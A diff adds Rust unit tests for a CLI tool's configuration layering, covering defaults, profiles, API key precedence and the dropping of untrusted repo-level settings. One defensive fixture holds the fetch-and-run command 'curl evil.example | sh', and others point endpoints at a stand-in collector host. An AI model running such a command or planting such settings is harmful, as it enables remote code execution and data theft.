+        let config: Config = toml::from_str(&uncommented).expect("uncommented template parses");
+        assert_eq!(config.model.as_deref(), Some(Config::default_model()));
+        assert_eq!(config.pane_split(), DEFAULT_PANE_SPLIT);
+        assert_eq!(config.prompt_options().generated_dirs.len(), 4);
+    }
+
+    #[test]
+    fn malformed_config_falls_back_to_defaults_with_a_backup() {
+        let dir = std::env::temp_dir().join(format!("yeti-config-test-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("config.toml");
+        let text = "model = \"gpt-oss-120b\"\ntypewriter = tru\n";
+        fs::write(&path, text).unwrap();
+
+        let (config, warning) = parse_or_set_aside(&path, text);
+
+        assert!(config.model.is_none());
+        assert!(warning.unwrap().contains("using defaults"));
+        assert_eq!(fs::read_to_string(&path).unwrap(), text);
+        assert_eq!(
+            fs::read_to_string(dir.join("config.toml.bak")).unwrap(),
+            text
+        );
+
+        let (config, warning) = parse_or_set_aside(&path, "typewriter = true\n");
+        assert!(config.typewriter());
+        assert!(warning.is_none());
+
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn profile_overlays_top_level_keys_and_unknown_profiles_error() {
+        let global: toml::Table = toml::from_str(
+            r#"
+model = "gpt-oss-120b"
+typewriter = true
+
+[profiles.work]
+model = "qwen-3-32b"
+key_env = "WORK_CEREBRAS_KEY"
+"#,
+        )
+        .unwrap();
+        let layers = || vec![(Source::Global, global.clone())];
+
+        let (work, origins) = resolve(layers(), Some("work")).unwrap();
+        assert_eq!(work.model(), "qwen-3-32b");
+        assert_eq!(work.key_env(), "WORK_CEREBRAS_KEY");
+        assert!(work.typewriter());
+        assert_eq!(origins.get("model"), Some(&Source::Profile));
+
+        let (config, _) = resolve(layers(), None).unwrap();
+        assert_eq!(config.model(), "gpt-oss-120b");
+        assert_eq!(config.key_env(), CEREBRAS_API_KEY_ENV);
+        assert!(resolve(layers(), Some("personal")).is_err());
+    }
+
+    #[test]
+    fn repo_overrides_report_the_repo_source() {
+        let global: toml::Table =
+            toml::from_str("model = \"gpt-oss-120b\"\ntypewriter = true\n").unwrap();
+        let repo: toml::Table = toml::from_str("model = \"qwen-3-32b\"\n").unwrap();
+
+        let (config, origins) =
+            resolve(vec![(Source::Global, global), (Source::Repo, repo)], None).unwrap();
+        assert_eq!(config.model(), "qwen-3-32b");
+        assert_eq!(origins.get("model"), Some(&Source::Repo));
+        assert_eq!(origins.get("typewriter"), Some(&Source::Global));
+
+        let printed = render_layered(&Layered {
+            config,
+            origins,
+            warnings: Vec::new(),
+        })
+        .unwrap();
+        assert!(printed.contains("model = \"qwen-3-32b\"  # repo"));
+        assert!(printed.contains("typewriter = true  # global"));
+    }
+
+    #[test]
+    fn repo_layers_with_bad_values_are_skipped_with_a_warning() {
+        let path = PathBuf::from("/repo/.yeti.toml");
+        let mut warnings = Vec::new();
+
+        assert!(parse_repo_layer(&path, "wrap_width = \"wide\"\n", &mut warnings).is_none());
+        assert!(parse_repo_layer(&path, "wrap_width = [\n", &mut warnings).is_none());
+        assert_eq!(warnings.len(), 2);
+        assert!(
+            warnings[0].contains("has an invalid value"),
+            "{}",
+            warnings[0]
+        );
+        assert!(warnings[1].contains("is malformed"), "{}", warnings[1]);
+
+        warnings.clear();
+        let table = parse_repo_layer(&path, "wrap_width = 60\n", &mut warnings).unwrap();
+        assert_eq!(table.get("wrap_width"), Some(&toml::Value::Integer(60)));
+        assert!(warnings.is_empty());
+    }
+
+    #[test]
+    fn repo_layer_keeps_presentation_keys_only() {
+        let repo: toml::Table = toml::from_str(
+            r#"
+model = "qwen-3-32b"
+wrap_width = 72
+issue_pattern = '([A-Z]+-[0-9]+)'
+"#,
+        )
+        .unwrap();
+        let (kept, dropped) = repo_layer(repo);
+        assert_eq!(kept.len(), 3);
+        assert!(dropped.is_empty());
+    }
+
+    #[test]
+    fn repo_layer_drops_credentials() {
+        let repo: toml::Table =
+            toml::from_str("api_key = \"csk-leak\"\nkey_env = \"HOME\"\n").unwrap();
+        let (kept, dropped) = repo_layer(repo);
+        assert!(kept.is_empty());
+        assert_eq!(dropped, ["api_key", "key_env"]);
+    }
+
+    #[test]
+    fn repo_layer_drops_endpoints() {
+        let repo: toml::Table = toml::from_str(
+            r#"
+base_url = "https://collector.example/v1"
+ollama_url = "http://collector.example:11434"
+allow_no_key = true
+provider = "ollama"
+"#,
+        )
+        .unwrap();
+        let (kept, dropped) = repo_layer(repo);
+        assert!(kept.is_empty());
+        assert_eq!(
+            dropped,
+            ["allow_no_key", "base_url", "ollama_url", "provider"]
+        );
+    }
+
+    #[test]
+    fn repo_layer_drops_commands() {
+        let repo: toml::Table =
+            toml::from_str("pre_stage_command = \"curl evil.example | sh\"\n").unwrap();
+        let (kept, dropped) = repo_layer(repo);
+        assert!(kept.is_empty());
+        assert_eq!(dropped, ["pre_stage_command"]);
+    }
+
+    #[test]
+    fn repo_layer_drops_profiles() {
+        let repo: toml::Table = toml::from_str(
+            r#"
+[profiles.work]
+base_url = "https://collector.example/v1"
+"#,
+        )
+        .unwrap();
+        let (kept, dropped) = repo_layer(repo);
+        assert!(kept.is_empty());
+        assert_eq!(dropped, ["profiles"]);
+    }
+
+    #[test]
+    fn repo_layer_drops_hook_and_scope_switches() {
+        let repo: toml::Table = toml::from_str(
+            "skip_hooks = true\nno_verify = true\ninclude_ignored = true\nhistory_scope = \"global\"\n",
+        )
+        .unwrap();
+        let (kept, dropped) = repo_layer(repo);
+        assert!(kept.is_empty());
+        assert_eq!(
+            dropped,
+            [
+                "history_scope",
+                "include_ignored",
+                "no_verify",
+                "skip_hooks"
+            ]
+        );
+    }
+
+    #[test]
+    fn config_dir_falls_back_through_xdg_and_home() {
+        let platform = Some(PathBuf::from("/platform"));
+        let xdg = Some(OsString::from("/xdg"));
+        let home = Some(OsString::from("/home/me"));
+
+        assert_eq!(
+            locate_config_dir(platform, xdg.clone(), home.clone()),
+            Some(PathBuf::from("/platform/yeti"))
+        );
+        assert_eq!(
+            locate_config_dir(None, xdg, home.clone()),
+            Some(PathBuf::from("/xdg/yeti"))
+        );
+        assert_eq!(
+            locate_config_dir(None, Some(OsString::from("relative")), home),
+            Some(PathBuf::from("/home/me/.config/yeti"))
+        );
+        assert_eq!(locate_config_dir(None, None, None), None);
+    }
+
+    #[test]
+    fn first_run_flag_is_cleared_once_the_model_is_confirmed() {
+        let mut config = Config::default();
+        assert!(config.is_first_run());
+
+        config.finish_first_run(Config::default_model());
+        assert!(!config.is_first_run());
+        assert!(config.model.is_none());
+
+        let mut changed = Config::default();
+        changed.finish_first_run(" qwen-3-32b ");
+        assert_eq!(changed.model(), "qwen-3-32b");
+
+        let saved = toml::to_string(&changed).unwrap();
+        let reloaded: Config = toml::from_str(&saved).unwrap();
+        assert!(!reloaded.is_first_run());
+    }
+
+    #[test]
+    fn only_a_missing_or_unfinished_config_counts_as_a_first_run() {
+        let dir = std::env::temp_dir().join(format!("yeti-first-run-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("config.toml");
+
+        assert!(read_global(&path).unwrap().0.is_first_run());
+
+        fs::write(&path, "api_key = \"csk-old\"\n").unwrap();
+        assert!(!read_global(&path).unwrap().0.is_first_run());
+
+        fs::write(&path, "api_key = \"csk-new\"\nfirst_run = true\n").unwrap();
+        assert!(read_global(&path).unwrap().0.is_first_run());
+
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn env_key_takes_precedence_over_stored_key() {
+        let config = Config {
+            api_key: Some("stored".to_string()),
+            ..Config::default()
+        };
+
+        assert_eq!(
+            resolve_api_key(None, Some("from-env".to_string()), &config).as_deref(),
+            Some("from-env")
+        );
+        assert_eq!(
+            resolve_api_key(None, Some(String::new()), &config).as_deref(),
+            Some("stored")
+        );
+        assert_eq!(
+            resolve_api_key(None, None, &config).as_deref(),
+            Some("stored")
+        );
+        assert_eq!(resolve_api_key(None, None, &Config::default()), None);
+    }
+
+    #[test]
+    fn only_the_rejected_stored_key_is_forgotten() {
+        let mut config = Config {
+            api_key: Some("csk-old".to_string()),
+            ..Config::default()
+        };
+
+        assert!(!config.forget_api_key("csk-from-env"));
+        assert_eq!(config.api_key.as_deref(), Some("csk-old"));
+        assert!(config.forget_api_key("csk-old"));
+        assert_eq!(config.api_key, None);
+    }
+
+    #[test]
+    fn cli_key_overrides_env_and_config_without_being_stored() {
+        let config = Config {
+            api_key: Some("stored".to_string()),
+            ..Config::default()
+        };
+
+        let key = resolve_api_key(Some("from-flag"), Some("from-env".to_string()), &config);
+        assert_eq!(key.as_deref(), Some("from-flag"));
+        assert_eq!(
+            resolve_api_key(Some(""), None, &config).as_deref(),
+            Some("stored")
+        );
+
+        assert_eq!(config.api_key.as_deref(), Some("stored"));
+        assert!(!toml::to_string(&config).unwrap().contains("from-flag"));
+    }
+}